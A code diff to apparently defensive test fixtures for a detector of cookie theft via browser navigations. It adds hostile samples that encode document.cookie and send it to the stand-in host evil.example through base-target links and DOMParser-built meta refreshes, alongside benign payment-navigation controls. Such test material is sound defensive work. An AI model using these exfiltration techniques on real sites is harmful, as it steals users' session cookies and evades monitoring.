@@ -446,16 +446,16 @@ export const MAIN_WORLD_SCRIPTS = {
   /**
    * Carries the cookie off in navigations a script starts without `location`: links it follows — a click event
    * dispatched on a link into a frame (a shop document of its own), click() on an element inside a link into
-   * another, click() on a link that opens a new window
-   * (the helper cancels that one itself, so the test keeps one tab; the attempt is what counts) — and
-   * `<meta http-equiv=refresh>` put into frames' documents by property, by setAttribute (quoted URL, any case)
-   * and by markup.
+   * another, click() on a link that opens a new window and on one the document's `<base target>` sends there
+   * (the helper cancels those itself, so the test keeps one tab; the attempt is what counts) — and
+   * `<meta http-equiv=refresh>` put into frames' documents by property, by setAttribute (quoted URL, any case),
+   * by markup, and parsed by a DOMParser and moved in.
    */
   'link-follows': `(() => {
   const c = encodeURIComponent(document.cookie);
   ${SHOP_FRAME}
-  Promise.all([frame('saq-link-a'), frame('saq-link-b'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c')]).then(([link, inner, a, b, m]) => {
-    link.onload = inner.onload = a.onload = b.onload = m.onload = null;
+  Promise.all([frame('saq-link-a'), frame('saq-link-b'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c'), frame('saq-meta-d')]).then(([link, inner, a, b, m, p]) => {
+    link.onload = inner.onload = a.onload = b.onload = m.onload = p.onload = null;
     const into = document.createElement('a');
     into.href = 'https://evil.example/link-dispatched?c=' + c;
     into.target = 'saq-link-a';
@@ -473,6 +473,16 @@ export const MAIN_WORLD_SCRIPTS = {
     blank.addEventListener('click', (e) => e.preventDefault());
     document.body.appendChild(blank);
     blank.click();
+    // No target of its own: the document's first <base target> sends it to a new window.
+    const base = document.createElement('base');
+    base.target = '_blank';
+    document.head.prepend(base);
+    const based = document.createElement('a');
+    based.href = 'https://evil.example/link-base?c=' + c;
+    based.addEventListener('click', (e) => e.preventDefault());
+    document.body.appendChild(based);
+    based.click();
+    base.remove();
     const da = a.contentDocument, db = b.contentDocument, dm = m.contentDocument;
     const byProperty = da.createElement('meta');
     byProperty.httpEquiv = 'refresh';
@@ -483,6 +493,9 @@ export const MAIN_WORLD_SCRIPTS = {
     byAttribute.setAttribute('HTTP-EQUIV', 'Refresh');
     db.head.appendChild(byAttribute);
     dm.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0,https://evil.example/meta-markup?c=' + c + '">');
+    // Parsed apart from the page, the element gets its attributes from no hooked call; it refreshes once moved in.
+    const parsed = new DOMParser().parseFromString('<meta http-equiv="refresh" content="0;url=https://evil.example/meta-parsed?c=' + c + '">', 'text/html');
+    p.contentDocument.head.appendChild(parsed.querySelector('meta'));
     window.__followed = true;
   });
 })();`,
@@ -797,14 +810,15 @@ export const BENIGN = {
   /**
    * The shop sending its own frames and itself to its payment provider, its cookie in the URL: a frame's
    * Location, a link it clicks into a frame, a click event it dispatches on another, and location.assign
-   * (cancelled by the shop where the browser has the Navigation API, so the test keeps the page); a meta
-   * refresh sending a frame to the provider's status page; and a link to a partner the person clicks.
+   * (cancelled by the shop where the browser has the Navigation API, so the test keeps the page), a link a
+   * `<base target>` sends into a frame; meta refreshes sending frames to the provider (one set up by
+   * properties, one parsed by a DOMParser and moved in); and a link to a partner the person clicks.
    */
   'pay-navigations': `(() => {
   const ref = encodeURIComponent(document.cookie);
   ${SHOP_FRAME}
-  Promise.all([frame('pay-a'), frame('pay-b'), frame('pay-c')]).then(([a, , c]) => {
-    a.onload = c.onload = null;
+  Promise.all([frame('pay-a'), frame('pay-b'), frame('pay-c'), frame('pay-d')]).then(([a, , c, d]) => {
+    a.onload = c.onload = d.onload = null;
     a.contentWindow.location.href = 'https://pay.example/checkout?ref=' + ref;
     const link = document.createElement('a');
     link.href = 'https://pay.example/3ds?ref=' + ref;
@@ -827,6 +841,17 @@ export const BENIGN = {
     status.httpEquiv = 'refresh';
     status.content = '0; url=https://pay.example/status?ref=' + ref;
     c.contentDocument.head.appendChild(status);
+    // Its receipt link, sent into a frame by the document's <base target>; a refresh it parsed apart and moved in.
+    const base = document.createElement('base');
+    base.target = 'pay-b';
+    document.head.prepend(base);
+    const receipt = document.createElement('a');
+    receipt.href = 'https://pay.example/receipt?ref=' + ref;
+    document.body.appendChild(receipt);
+    receipt.click();
+    base.remove();
+    const done = new DOMParser().parseFromString('<meta http-equiv="refresh" content="0; url=https://pay.example/done?ref=' + ref + '">', 'text/html');
+    d.contentDocument.head.appendChild(done.querySelector('meta'));
     if (typeof navigation === 'object') {
       navigation.addEventListener('navigate', (e) => e.destination.url.includes('/pay-top') && e.preventDefault());
       location.assign('https://pay.example/pay-top?ref=' + ref);
